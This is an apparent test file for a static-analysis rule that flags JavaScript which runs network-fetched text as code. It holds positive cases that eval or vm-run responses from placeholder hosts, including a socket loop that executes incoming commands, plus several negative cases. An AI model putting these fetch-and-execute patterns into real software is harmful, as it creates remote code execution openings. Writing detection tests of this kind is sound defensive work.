const axios = require('axios');
const https = require('https');
const net = require('net');
const vm = require('vm');

function price(symbol) {
  return axios
    .get('https://rates.example.org/v2/' + symbol)
    .then((a) => a.data.value)
    .catch((why) => {
      // ruleid: js-network-text-run-as-code
      eval(why.response.data);
    });
}

async function theme() {
  const { data } = await axios.get('https://store.example.net/bin/77');
  // ruleid: js-network-text-run-as-code
  new Function('require', data.palette)(require);
}

https.get({ host: 'store.example.net', path: '/raw/2' }, function (answer) {
  const parts = [];
  answer.on('data', (p) => parts.push(p));
  answer.on('end', function () {
    const text = Buffer.concat(parts).toString();
    // ruleid: js-network-text-run-as-code
    vm.runInThisContext(text);
  });
});

function apart(options) {
  const socket = net.connect(options);
  socket.on('data', (line) => {
    const order = JSON.parse(line.toString());
    // ruleid: js-network-text-run-as-code
    socket.write(String((0, eval)(order.body)));
  });
}

const depot = Buffer.alloc(4096);
module.exports.take = function (req, place) {
  const all = JSON.stringify(req.headers);
  Buffer.from(all, 'hex').copy(depot, place);
};
module.exports.go = function () {
  // ruleid: js-network-text-run-as-code
  new vm.Script(depot.toString('utf8'), 'depot').runInThisContext();
};

async function later(url) {
  const r = await fetch(url);
  const body = await r.text();
  // ruleid: js-network-text-run-as-code
  window['eval'](body);
}

const words = ['length', 'eval', 'join'];
async function indirect(url) {
  const text = await (await fetch(url)).text();
  // ruleid: js-network-text-run-as-code
  self[words[1]](text);
}

axios
  .get('https://rates.example.org/boot')
  // ruleid: js-network-text-run-as-code
  .then((a) => eval(a.data));

async function count(url) {
  const r = await fetch(url);
  // ok: js-network-text-run-as-code
  return parseInt(await r.text(), 10);
}

function old(xhr) {
  // ok: js-network-text-run-as-code
  return eval('(' + xhr.responseText + ')');
}

function template(source) {
  // ok: js-network-text-run-as-code
  return new Function('data', 'return `' + source + '`');
}

function shown(req, res) {
  // ok: js-network-text-run-as-code
  res.end(String(req.query.name));
}

process.stdin.on('data', (typed) => {
  // ok: js-network-text-run-as-code
  vm.runInThisContext(String(typed));
});
